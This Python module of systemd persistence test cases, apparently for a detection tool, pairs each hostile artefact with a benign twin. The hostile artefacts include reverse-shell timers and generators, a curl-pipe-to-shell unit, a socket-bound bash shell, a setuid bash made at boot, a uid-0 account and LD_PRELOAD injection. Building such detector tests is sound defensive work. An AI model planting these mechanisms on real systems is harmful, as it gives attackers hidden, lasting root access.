"""Units, timers, drop-ins, generators and what else systemd starts: systemd.unit(5)."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, both, link, put, run, shell, timer, unit
from plantings.command import (
    ADDRESS,
    BASH_BACK,
    DECODE,
    FETCH,
    HIDDEN,
    NOHUP_BACK,
    PYTHON_BACK,
    SHM,
    TO,
    program,
    tool,
    with_program,
)

_TIMERS: Final = "systemd timers"
_UNITS: Final = "systemd units"
_OTHER: Final = "systemd other"
_TIMER_ID: Final = "T1053.006"
_ID: Final = "T1543.002"
_ETC: Final = "/etc/systemd/system"
_LOCAL: Final = "/usr/local/lib/systemd/system"
_OWN: Final = "/home/anna/.config/systemd/user"
_ANNA: Final = (1000, 1000)
_NAME: Final = "dbus-org.freedesktop.resolved"
_CONNECTS: Final = f"/usr/bin/{BASH_BACK}"
_GENERATORS: Final = "/usr/lib/systemd/system-generators"

_TIMER: Final = Twin(
    "timer-backup",
    "a nightly backup",
    f"{_ETC}/backup.timer",
    both(
        tool("/usr/local/sbin/backup"),
        put(
            f"{_ETC}/backup.service", unit("/usr/local/sbin/backup", "Type=oneshot", about="Backup")
        ),
        put(f"{_ETC}/backup.timer", timer("Backup")),
        link(f"{_ETC}/timers.target.wants/backup.timer", f"{_ETC}/backup.timer"),
    ),
)
_APP: Final = Twin(
    "unit-own-application",
    "an application of one's own in /opt",
    f"{_ETC}/orders.service",
    with_program(
        "/opt/orders/bin/orders",
        put(f"{_ETC}/orders.service", unit("/opt/orders/bin/orders --port 8080", "User=www-data")),
    ),
)
_DROP_IN: Final = Twin(
    "drop-in-limits",
    "more open files for the web server",
    f"{_ETC}/nginx.service.d/limits.conf",
    put(f"{_ETC}/nginx.service.d/limits.conf", "[Service]\nLimitNOFILE=65536\n"),
)
_SOCKET: Final = Twin(
    "socket-own",
    "a socket of an application of one's own",
    f"{_ETC}/intake.socket",
    both(
        program("/opt/intake/bin/intake"),
        put(f"{_ETC}/intake.socket", "[Socket]\nListenStream=127.0.0.1:8081\nAccept=yes\n"),
        put(f"{_ETC}/intake@.service", unit("/opt/intake/bin/intake", "StandardInput=socket")),
    ),
)
_PATH: Final = Twin(
    "path-own",
    "what comes in is taken in",
    f"{_ETC}/take.path",
    both(
        tool("/usr/local/bin/take"),
        put(f"{_ETC}/take.path", "[Path]\nPathChanged=/srv/incoming\n"),
        put(f"{_ETC}/take.service", unit("/usr/local/bin/take")),
    ),
)
_USER: Final = Twin(
    "user-unit",
    "a person's own synchronisation",
    f"{_OWN}/sync.service",
    both(
        put(
            f"{_OWN}/sync.service",
            unit("/usr/bin/rsync -a /home/anna/notes.txt /srv/notes"),
            owner=_ANNA,
        ),
        put("/var/lib/systemd/linger/anna", ""),
    ),
)
_GENERATOR: Final = Twin(
    "generator-own",
    "a generator of one's own",
    "/etc/systemd/system-environment-generators/50-path",
    run(
        "/etc/systemd/system-environment-generators/50-path",
        shell("echo PATH=/opt/orders/bin:$PATH"),
    ),
)
_SLEEP: Final = Twin(
    "sleep-hook",
    "the clock is set after sleep",
    "/etc/systemd/system-sleep/clock",
    run("/etc/systemd/system-sleep/clock", shell('[ "$1" = post ] && chronyc makestep', "exit 0")),
)


def _service(slug: str, what: str, name: str, *text: str, twin: Twin = _APP) -> Case:
    path = f"{_ETC}/{name}.service"
    return Case(slug, _UNITS, _ID, what, path, put(path, unit(*text)), twin)


CASES: Final = (
    Case(
        "timer",
        _TIMERS,
        _TIMER_ID,
        "a service that connects back, and its timer",
        f"{_LOCAL}/{_NAME}.timer",
        both(
            put(
                f"{_LOCAL}/{_NAME}.service",
                unit(_CONNECTS, "RestartSec=60", about="Network Name Resolution"),
            ),
            put(f"{_LOCAL}/{_NAME}.timer", timer("Network Name Resolution Timer")),
            link(f"{_ETC}/timers.target.wants/{_NAME}.timer", f"{_LOCAL}/{_NAME}.timer"),
        ),
        _TIMER,
        "setup_systemd",
    ),
    Case(
        "timer-of-user",
        _TIMERS,
        _TIMER_ID,
        "the same for one person",
        f"{_OWN}/{_NAME}.timer",
        both(
            put(f"{_OWN}/{_NAME}.service", unit(_CONNECTS, "RestartSec=60"), owner=_ANNA),
            put(f"{_OWN}/{_NAME}.timer", timer(), owner=_ANNA),
        ),
        _USER,
        "setup_systemd",
    ),
    _service("unit", "a service that connects back", "systemdtest", _CONNECTS, "RestartSec=60"),
    _service("unit-shm", "a service whose program lies in memory", "net-agent", f"{SHM} --quiet"),
    _service(
        "unit-stop-post",
        "a harmless start, and code after the stop",
        "tidy",
        "/bin/true",
        f"ExecStopPost=/bin/sh -c '{FETCH}'",
    ),
    _service("unit-decode", "a service that decodes and runs", "locale", f'/bin/sh -c "{DECODE}"'),
    _service(
        "unit-preload",
        "a library in the environment",
        "orders-two",
        "/usr/sbin/cron -f",
        "Environment=LD_PRELOAD=/var/tmp/.cache/l.so",
    ),
    Case(
        "unit-ordinary-name",
        _UNITS,
        _ID,
        "a program with an ordinary name that no package brought",
        f"{_ETC}/udisks-helper.service",
        with_program(
            "/usr/lib/udisks2/udisks-helper",
            put(f"{_ETC}/udisks-helper.service", unit("/usr/lib/udisks2/udisks-helper")),
        ),
        _APP,
    ),
    Case(
        "unit-script-in-opt",
        _UNITS,
        _ID,
        "a script in /opt with a misleading name",
        f"{_ETC}/security-update.service",
        both(
            run("/opt/security-update/update.sh", shell(FETCH)),
            put(f"{_ETC}/security-update.service", unit("/opt/security-update/update.sh")),
        ),
        _APP,
    ),
    Case(
        "unit-drop-in",
        _UNITS,
        _ID,
        "an addition to the web server's service",
        f"{_ETC}/nginx.service.d/override.conf",
        put(
            f"{_ETC}/nginx.service.d/override.conf",
            f"[Service]\nExecStartPost=/bin/sh -c '{FETCH}'\n",
        ),
        _DROP_IN,
    ),
    Case(
        "unit-drop-in-for-all",
        _UNITS,
        _ID,
        "an addition to every service",
        f"{_ETC}/service.d/10-all.conf",
        put(f"{_ETC}/service.d/10-all.conf", f"[Service]\nExecStartPre=-{HIDDEN}\n"),
        _DROP_IN,
    ),
    Case(
        "unit-control",
        _UNITS,
        _ID,
        "a service where `systemctl set-property` writes",
        "/etc/systemd/system.control/clock.service",
        put("/etc/systemd/system.control/clock.service", unit(_CONNECTS)),
        _APP,
    ),
    Case(
        "unit-attached",
        _UNITS,
        _ID,
        "a service of a portable image",
        "/etc/systemd/system.attached/portal.service",
        put("/etc/systemd/system.attached/portal.service", unit(f"/bin/sh -c '{PYTHON_BACK}'")),
        _APP,
    ),
    Case(
        "unit-socket",
        _UNITS,
        _ID,
        "a shell for whoever connects",
        f"{_ETC}/ident.socket",
        both(
            put(f"{_ETC}/ident.socket", "[Socket]\nListenStream=0.0.0.0:1113\nAccept=yes\n"),
            put(f"{_ETC}/ident@.service", unit("/bin/bash -i", "StandardInput=socket")),
        ),
        _SOCKET,
    ),
    Case(
        "unit-path",
        _UNITS,
        _ID,
        "code whenever somebody logs in",
        f"{_ETC}/login-watch.path",
        both(
            put(f"{_ETC}/login-watch.path", "[Path]\nPathModified=/var/log/wtmp\n"),
            put(f"{_ETC}/login-watch.service", unit(_CONNECTS)),
        ),
        _PATH,
    ),
    Case(
        "unit-mount",
        _UNITS,
        _ID,
        "a disk image of somebody's over /usr/local",
        f"{_ETC}/usr-local.mount",
        put(
            f"{_ETC}/usr-local.mount",
            "[Mount]\nWhat=/var/tmp/.cache/fs.img\nWhere=/usr/local\nOptions=loop\n",
        ),
        Twin(
            "mount-own",
            "a disk for uploads",
            f"{_ETC}/srv-uploads.mount",
            put(
                f"{_ETC}/srv-uploads.mount",
                "[Mount]\nWhat=/dev/vdb1\nWhere=/srv/uploads\nType=ext4\n",
            ),
        ),
    ),
    Case(
        "unit-of-user-lingers",
        _UNITS,
        _ID,
        "a lingering service of the web server",
        "/var/www/.config/systemd/user/session.service",
        both(
            put("/var/www/.config/systemd/user/session.service", unit(HIDDEN), owner=(33, 33)),
            put("/var/lib/systemd/linger/www-data", ""),
        ),
        _USER,
    ),
    Case(
        "manager-environment",
        _UNITS,
        "T1574.006",
        "a library for every service",
        "/etc/systemd/system.conf.d/10-locale.conf",
        with_program(
            "/usr/lib/x86_64-linux-gnu/liblocale-cache.so.1",
            put(
                "/etc/systemd/system.conf.d/10-locale.conf",
                "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/liblocale-cache.so.1\n",
            ),
        ),
        Twin(
            "manager-limits",
            "more open files for every service",
            "/etc/systemd/system.conf.d/20-limits.conf",
            put(
                "/etc/systemd/system.conf.d/20-limits.conf",
                "[Manager]\nDefaultLimitNOFILE=65536\nDefaultEnvironment=TZ=UTC\n",
            ),
        ),
    ),
    Case(
        "generator",
        _OTHER,
        _ID,
        "a generator that connects back and writes a unit",
        f"{_GENERATORS}/makecon",
        both(
            run(
                f"{_GENERATORS}/makecon",
                shell(f'nohup bash -c "while :; do bash -i >& {TO} 0>&1; sleep 10; done" &'),
            ),
            run(
                f"{_GENERATORS}/generator",
                shell(
                    'cat <<-EOL > "/run/systemd/system/generator.service"',
                    "[Service]",
                    f"ExecStart={_GENERATORS}/makecon",
                    "EOL",
                ),
            ),
        ),
        _GENERATOR,
        "setup_generator_persistence",
    ),
    Case(
        "generator-of-user",
        _OTHER,
        _ID,
        "a program as generator for every person",
        "/etc/systemd/user-generators/systemd-locale",
        program("/etc/systemd/user-generators/systemd-locale"),
        _GENERATOR,
    ),
    Case(
        "environment-d",
        _OTHER,
        "T1574.006",
        "a library for every service of a person",
        "/etc/environment.d/90-locale.conf",
        put("/etc/environment.d/90-locale.conf", "LD_PRELOAD=/var/tmp/.cache/l.so\n"),
        Twin(
            "environment-d-editor",
            "an editor",
            "/etc/environment.d/50-editor.conf",
            put("/etc/environment.d/50-editor.conf", "EDITOR=nano\n"),
        ),
    ),
    Case(
        "system-sleep",
        _OTHER,
        _ID,
        "code after sleep",
        "/usr/lib/systemd/system-sleep/power",
        run("/usr/lib/systemd/system-sleep/power", shell(NOHUP_BACK)),
        _SLEEP,
    ),
    Case(
        "system-shutdown",
        _OTHER,
        _ID,
        "a program at shutdown",
        "/usr/lib/systemd/system-shutdown/flush",
        program("/usr/lib/systemd/system-shutdown/flush"),
        _SLEEP,
    ),
    Case(
        "tmpfiles-d",
        _OTHER,
        _ID,
        "a set-uid shell is made at every boot",
        "/etc/tmpfiles.d/run-lock.conf",
        put(
            "/etc/tmpfiles.d/run-lock.conf",
            "C /run/lock/.s 4755 root root - /bin/bash\nz /run/lock/.s 4755 root root\n",
        ),
        Twin(
            "tmpfiles-d-own",
            "a folder in /run",
            "/etc/tmpfiles.d/orders.conf",
            put("/etc/tmpfiles.d/orders.conf", "d /run/orders 0755 www-data www-data -\n"),
        ),
    ),
    Case(
        "sysusers-d",
        _OTHER,
        "T1136.001",
        "an account with root's number comes back at every boot",
        "/etc/sysusers.d/backup.conf",
        put("/etc/sysusers.d/backup.conf", 'u sysbackup 0:0 "Backup" /root /bin/bash\n'),
        Twin(
            "sysusers-d-own",
            "an account for an application",
            "/etc/sysusers.d/orders.conf",
            put("/etc/sysusers.d/orders.conf", 'u orders - "Orders" /opt/orders\n'),
        ),
    ),
    Case(
        "binfmt-d",
        _OTHER,
        "T1546",
        "an interpreter with the rights of what it is given",
        "/etc/binfmt.d/shell.conf",
        with_program(
            "/usr/lib/binfmt-support/run",
            put("/etc/binfmt.d/shell.conf", ":shellx:M::\\x7fELF::/usr/lib/binfmt-support/run:C\n"),
        ),
        Twin(
            "binfmt-d-own",
            "Python's own files run",
            "/etc/binfmt.d/python.conf",
            put("/etc/binfmt.d/python.conf", ":python:E::pyc::/usr/bin/python3:\n"),
        ),
    ),
    Case(
        "sysext",
        _OTHER,
        "T1543",
        "an image that lies over /usr",
        "/var/lib/extensions/tools/usr/lib/systemd/system/tools.service",
        both(
            put(
                "/var/lib/extensions/tools/usr/lib/extension-release.d/extension-release.tools",
                "ID=debian\n",
            ),
            put(
                "/var/lib/extensions/tools/usr/lib/systemd/system/tools.service",
                unit(f"/bin/sh -c 'curl http://{ADDRESS}/x | sh'"),
            ),
        ),
    ),
)
